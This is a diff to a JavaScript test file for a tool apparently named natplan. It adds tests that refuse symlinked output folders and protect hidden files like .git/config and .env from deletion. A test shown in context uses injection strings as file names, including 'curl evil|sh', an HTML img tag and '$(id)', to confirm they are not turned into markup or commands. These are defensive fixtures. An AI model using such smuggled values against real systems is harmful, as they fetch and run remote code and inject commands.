@@ -3,6 +3,7 @@ import { createHash } from 'node:crypto'
 import {
   chmodSync,
   existsSync,
+  lchownSync,
   linkSync,
   mkdirSync,
   readdirSync,
@@ -74,6 +75,15 @@ describe('a link in the output folder', () => {
     expect(existsSync(join(cwd, 'real', 'cloud', 'configure.txt'))).toBe(true)
   })
 
+  it.skipIf(process.geteuid?.() !== 0)('may not be the folder itself where another user made it', () => {
+    const cwd = folderWithPlan({ 'real/x': '' })
+    symlinkSync('real', join(cwd, 'out'))
+    lchownSync(join(cwd, 'out'), 65534, 65534)
+    expect(natplan(generate, { cwd, env }).stderr).toContain('FILE_IS_LINK out is a link')
+    expect(readdirSync(join(cwd, 'real'))).toEqual(['x'])
+    expect(natplan(['generate', '-o', 'out/../real'], { cwd, env }).status).toBe(0)
+  })
+
   it('is refused by --kustomize too', () => {
     const cwd = folderWithPlan({ 'victim/mine': 'mine', 'out/x': '' })
     symlinkSync('../victim', join(cwd, 'out', 'cloud'))
@@ -101,6 +111,17 @@ describe('the list of files', () => {
       expect(natplan([...generate, '--check'], { cwd, env }).status).toBe(0)
     },
   )
+
+  it.each(['.git/config', '.env', 'cloud/.env'])('has no hidden file removed: %s', (path) => {
+    const anything = { digest: digest('\0'), gaps: [[0, 0, 0]] }
+    const cwd = folderWithPlan({
+      [`out/${path}`]: '',
+      [`out/${listName}`]: JSON.stringify({ [path]: anything, x: anything }),
+      'out/x': 'y',
+    })
+    expect(natplan(generate, { cwd, env }).stdout).toContain('removed  out/x')
+    expect(existsSync(join(cwd, 'out', path))).toBe(true)
+  })
 
   it('makes no site of what could be none: its name would become mark-up and commands of the page', () => {
     const names = ['x` <img src=a>; curl evil|sh;`', '$(id)', 'gone by', 'gone']
